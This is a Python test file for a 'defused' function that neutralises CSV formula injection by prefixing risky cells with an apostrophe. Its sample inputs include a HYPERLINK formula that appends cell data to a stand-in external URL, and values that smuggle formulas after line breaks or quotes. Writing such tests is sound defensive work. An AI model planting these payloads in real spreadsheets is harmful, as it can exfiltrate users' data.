import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from openline.planning.cells import BEGINS_A_FORMULA, defused

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://elsewhere.example?"&A2)',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "-inf",
    "+nan",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_begins_like_a_formula_becomes_a_text(text: str) -> None:
    assert defused(text) == f"'{text}"
    assert defused(defused(text)) == defused(text)


@pytest.mark.parametrize("text", ["", "-3", "+2.50", "1e3", "-0.1", "Ana", "2026-03-02", "'=1"])
def test_numbers_and_other_texts_stay(text: str) -> None:
    assert defused(text) == text


@given(st.text())
def test_no_text_begins_a_formula_unless_it_is_a_number(text: str) -> None:
    cell = defused(text)
    if cell.startswith(BEGINS_A_FORMULA):
        float(cell)
    assert cell.removeprefix("'") == text.replace("\r", " ").removeprefix("'")


def test_a_cell_is_one_cell_when_it_is_read_back() -> None:
    cells = [*FORMULAS, "Ana\r=1+1", 'Ana";=1', "Ana\n=1"]
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\n").writerow(map(defused, cells))
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [[*map(defused, cells)]]
